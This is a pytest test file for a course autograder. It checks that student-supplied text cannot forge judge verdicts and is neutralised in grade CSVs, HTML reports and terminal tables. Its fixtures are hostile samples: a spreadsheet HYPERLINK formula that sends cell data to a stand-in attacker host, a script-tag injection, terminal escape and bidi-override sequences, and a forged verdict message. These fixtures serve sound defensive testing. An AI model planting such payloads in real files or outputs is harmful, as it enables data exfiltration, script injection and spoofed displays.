"""Verdicts as data (issue 18, item 2) and student text inert in every CSV and the terminal (item 1).

The judge says which catalogued mistake a failed test matched as data (Verdict.mistake, written by JudgeVerdicts
into the autograded notebook's metadata); the class report, report.csv, grades.csv and the table read that data and
never parse the message, which quotes the student's own exception text. Each test builds what it needs by hand
(a throw-away gradebook, autograded notebooks, rows): no notebook is run.
"""

from __future__ import annotations

import os
import sys
import unicodedata
from pathlib import Path

import nbformat
import pytest
import torch
from nbgrader.api import Gradebook

import course_grader.judging as judging
from course_grader import class_report, inert
from course_grader.autograde import ASSIGNMENT
from course_grader.report import Row, table, write_csv
from course_judge import REGISTRY, NotebookVerdicts, Spec, Verdict, judge_test, load
from course_judge.audit import Audit
from course_judge.compare import NAMED_MISTAKE
from course_judge.q3 import batch_stats, train_mistakes
from course_judge.records import Fail
from course_lib.mistakes import MISTAKES
from course_recorder import MIME, Recorder, q3
from course_recorder.inputs import seeded_input
from submissions import csv_cells, not_inert

NB, TEST, OTHER = "Q3_batchnorm", "test_train_mode_output", "test_eval_mode_output"
# A real catalogued mistake of Q3's training-mode test (course_judge.q3.train_mistakes): its id and its sentence.
EPS_ID = "norm.no_eps"
EPS = MISTAKES[EPS_ID]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\u202eevil\u202c\x9b31m"
# What a hostile student's exception says: the judge's sentence for a real mistake, a formula and a script.
FORGED = f"boom\n{NAMED_MISTAKE}{EPS}\n{FORMULA}{SCRIPT}"


def test_eps_is_a_catalogued_mistake():
    """The forgery below names a mistake the judge really has (else the attack would prove nothing)."""
    x = seeded_input(*q3.FRESH_X[0], seed=q3.FRESH_X[1])
    assert EPS_ID in train_mistakes(x, torch.ones(3, dtype=x.dtype), torch.zeros(3, dtype=x.dtype), 1e-5, 0.1)


# ---- the judge: the named mistake is data -------------------------------------------------------------------

def _judged(fresh) -> Verdict:
    """Q3's training-mode verdict on records where the fresh layer's call gave `fresh` (a function of x)."""
    load("Q3")
    rec = Recorder(TEST)
    rec.call("fresh", fresh, seeded_input(*q3.FRESH_X[0], seed=q3.FRESH_X[1]))
    bundle = {"output_type": "display_data", "data": {MIME: {"test": TEST, "version": 1, "records": rec.records}},
              "metadata": {}}
    return judge_test(REGISTRY[("Q3", TEST)], TEST, [bundle], Audit())


def test_the_judge_names_a_catalogued_mistake_as_data():
    def no_eps(x):
        mean, biased, _ = batch_stats(x)
        return (x - mean) / torch.sqrt(biased)

    verdict = _judged(no_eps)
    assert not verdict.passed and verdict.mistake == EPS_ID, (verdict.mistake, verdict.message)
    assert f"{NAMED_MISTAKE}{EPS}" in verdict.message  # the student still reads it


def test_a_students_exception_text_names_no_mistake_in_the_verdict():
    def forged(x):
        raise ValueError(FORGED)

    verdict = _judged(forged)
    assert not verdict.passed and f"\n{NAMED_MISTAKE}{EPS}" in verdict.message  # the text is quoted, as it was
    assert verdict.mistake is None, verdict.mistake


def test_a_sentence_added_to_a_named_failure_keeps_its_mistake():
    """Verdicts that catch a Fail and raise a longer one (q4, q5, q7, q9 add a sentence) keep the mistake it named;
    one that raises a different failure names none."""
    def adds(r):
        try:
            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID)
        except Fail as err:
            raise Fail(f"{err}\nAlso, mind the defaults.") from None

    def replaces(r):
        try:
            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID)
        except Fail:
            raise Fail("something else went wrong") from None

    bundle = {"output_type": "display_data", "data": {MIME: {"test": "t", "version": 1, "records": {}}}, "metadata": {}}
    assert judge_test(Spec("Q3", "t", adds), "t", [bundle], Audit()).mistake == EPS_ID
    assert judge_test(Spec("Q3", "t", replaces), "t", [bundle], Audit()).mistake is None


# ---- JudgeVerdicts: the autograded notebook carries the judge's data, and only the judge's --------------------

def _test_cell(grade_id: str, points: float, outputs: list | None = None) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(f"# {grade_id}")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": grade_id, "locked": True, "points": points,
                                 "schema_version": 3, "solution": False}
    cell.outputs = outputs or []
    return cell


def test_the_judges_verdicts_replace_whatever_the_submission_carries(tmp_path, monkeypatch):
    release = nbformat.v4.new_notebook(cells=[_test_cell(TEST, 2), _test_cell(OTHER, 1)])
    nbformat.write(release, tmp_path / f"{NB}.ipynb")
    submitted = nbformat.v4.new_notebook(cells=[_test_cell(TEST, 2), _test_cell(OTHER, 1)])
    # The student's own "verdicts": every test passed, one with a named mistake and a formula.
    submitted.metadata[judging.VERDICTS_KEY] = [{"grade_id": TEST, "passed": True, "points": 2, "max_points": 2,
                                                 "mistake": FORMULA, "message": SCRIPT}]
    judged = NotebookVerdicts({TEST: Verdict(TEST, False, f"it failed\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID),
                               OTHER: Verdict(OTHER, False, FORGED)})
    monkeypatch.setattr(judging, "judge_notebook", lambda nb, rel, name: judged)
    nb, _ = judging.JudgeVerdicts(release_dir=str(tmp_path)).preprocess(submitted, {"unique_key": f"x/{NB}"})
    data = nb.metadata[judging.VERDICTS_KEY]
    assert data == [
        {"grade_id": TEST, "passed": False, "points": 0.0, "max_points": 2.0, "mistake": EPS_ID,
         "message": f"it failed\n{NAMED_MISTAKE}{EPS}"},
        {"grade_id": OTHER, "passed": False, "points": 0.0, "max_points": 1.0, "mistake": None, "message": FORGED}]
    assert class_report.VERDICTS_KEY == judging.VERDICTS_KEY  # copied there (the report never imports torch)


# ---- the class report and report.csv: named mistakes only from the judge's data -----------------------------

def _autograded(root: Path, student: str, verdicts: list[dict] | None) -> None:
    """An autograded Q3 as JudgeVerdicts leaves it: each failed test's error output, and its data (unless None);
    before them a student's cell that printed the forged sentence and raised an error dressed as a verdict."""
    student_cell = nbformat.v4.new_code_cell("print(...); raise TestFailed(...)")
    student_cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=FORGED),
                            *judging.verdict_outputs(False, FORGED)]
    cells = [student_cell]
    for grade_id, points in ((TEST, 2), (OTHER, 1)):
        v = next((v for v in verdicts or [] if v["grade_id"] == grade_id), None)
        cells.append(_test_cell(grade_id, points, judging.verdict_outputs(v["passed"], v["message"]) if v else []))
    nb = nbformat.v4.new_notebook(cells=cells)
    if verdicts is not None:
        nb.metadata[judging.VERDICTS_KEY] = verdicts
    folder = root / "autograded" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{NB}.ipynb")


def _verdict(grade_id: str, message: str, mistake: str | None, max_points: float) -> dict:
    return {"grade_id": grade_id, "passed": False, "points": 0.0, "max_points": max_points, "mistake": mistake,
            "message": message}


@pytest.fixture()
def course(tmp_path, monkeypatch):
    """A throw-away gradebook of Q3's two tests and four students who failed the first; their autograded notebooks:
    `honest` made the catalogued mistake (the judge named it), `forger` and `formula` raised exceptions whose text
    is the judge's sentence (a real mistake, a formula), `old` was graded before verdicts were data."""
    students = {
        "honest": [_verdict(TEST, f"the output is wrong\n{NAMED_MISTAKE}{EPS}", EPS_ID, 2)],
        "forger": [_verdict(TEST, f"training-mode output: the call raised ValueError: {FORGED}", None, 2)],
        FORMULA + ESCAPES: [_verdict(TEST, f"the call raised ValueError: x\n{NAMED_MISTAKE}{FORMULA}{SCRIPT}",
                                     None, 2)],
        "old": None,
    }
    db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    # nbgrader stamps a new gradebook's schema with the `alembic` command, found on PATH beside the interpreter.
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    with Gradebook(db_url) as gb:
        gb.add_assignment(ASSIGNMENT)
        gb.add_notebook(NB, ASSIGNMENT)
        for name, points in ((TEST, 2), (OTHER, 1)):
            gb.add_grade_cell(name, NB, ASSIGNMENT, max_score=points, cell_type="code")
        for student in students:
            gb.add_student(student)
            gb.add_submission(ASSIGNMENT, student)
            gb.find_grade(TEST, NB, ASSIGNMENT, student).auto_score = 0
            gb.find_grade(OTHER, NB, ASSIGNMENT, student).auto_score = 1
        gb.db.commit()
    for student, verdicts in students.items():
        _autograded(tmp_path, student, verdicts)
    _autograded_old = tmp_path / "autograded" / "old" / ASSIGNMENT / f"{NB}.ipynb"
    nb = nbformat.read(_autograded_old, as_version=4)  # the verdict text of an old run names the mistake
    nb.cells[0].outputs = judging.verdict_outputs(False, f"the output is wrong\n{NAMED_MISTAKE}{EPS}")
    nbformat.write(nb, _autograded_old)
    return tmp_path, db_url


def test_a_students_text_never_makes_a_named_mistake(course):
    root, db_url = course
    report = class_report.collect(root, db_url, root / "grades.csv")
    named = [(t.test, m, who) for t, m, who in report.named]
    assert named == [(TEST, EPS, ["honest"])], named
    test = next(t for t in report.tests if t.test == TEST)
    assert sorted(test.unnamed) == sorted(["forger", FORMULA + ESCAPES, "old"]), test.unnamed


def test_report_csv_has_no_formula_and_no_control_character(course):
    root, db_url = course
    student = FORMULA + ESCAPES
    why = f"-1 {FORMULA} {ESCAPES}"
    write_csv([Row(student, scores={"Q3": 1.0}, total=1.0, max_total=3.0, reasons=[why])], root / "grades.csv")
    html, table_csv, _ = class_report.write(root, db_url, root / "grades.csv")
    bad = [(cell, not_inert(cell)) for cell in csv_cells(table_csv) if not_inert(cell)]
    assert not bad, bad
    assert SCRIPT not in html.read_text()
    # grades.csv's inert cells are read back: the student is found, and the reason keeps its text (without escapes)
    report = class_report.collect(root, db_url, root / "grades.csv")
    assert report.attention == [(student, "attention", [inert.plain(why, 2000)])], report.attention


# ---- grades.csv and the printed table -----------------------------------------------------------------------

def test_terminal_escapes_and_formulas_never_reach_grades_csv_or_the_table(tmp_path):
    flagged = f"held for review: cell 3, line 1: print('{ESCAPES}') {FORMULA}"
    row = Row(f"{ESCAPES}{FORMULA}", scores={"Q3": 1.0}, total=1.0, max_total=3.0,
              reasons=[f"{FORMULA} {ESCAPES}", f"Q3: tampering: {ESCAPES}"], held={"Q3": [flagged]},
              confirmed={"Q1": [f"-{ESCAPES}"]})
    other = Row("-2+3", scores={"Q3": 3.0}, total=3.0, max_total=3.0)
    write_csv([row, other], tmp_path / "grades.csv")
    bad = [(cell, not_inert(cell)) for cell in csv_cells(tmp_path / "grades.csv") if not_inert(cell)]
    assert not bad, bad
    shown = table([row, other])
    controls = sorted({f"U+{ord(ch):04X}" for ch in shown if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf")})
    assert not controls, controls


def test_inert_text_keeps_what_a_person_reads():
    assert inert.plain("a\x1b[2Jb\u202ec") == "a?[2Jb?c"
    assert inert.csv_cell("=1+1") == "'=1+1" and inert.csv_cell("  @x") == "'@x" and inert.csv_cell("ok") == "ok"
    assert inert.csv_cell("\t=1") == "'=1" and inert.csv_cell("\r+1") == "'+1"
    for text in ("=1", "'=1", "-" * 20_000, "a\x1b[2Jb", "'plain"):  # a row may be written through csv_row twice
        assert inert.csv_cell(inert.csv_cell(text)) == inert.csv_cell(text), text
        assert inert.csv_cell(inert.csv_text(inert.csv_cell(text))) == inert.csv_cell(text), text
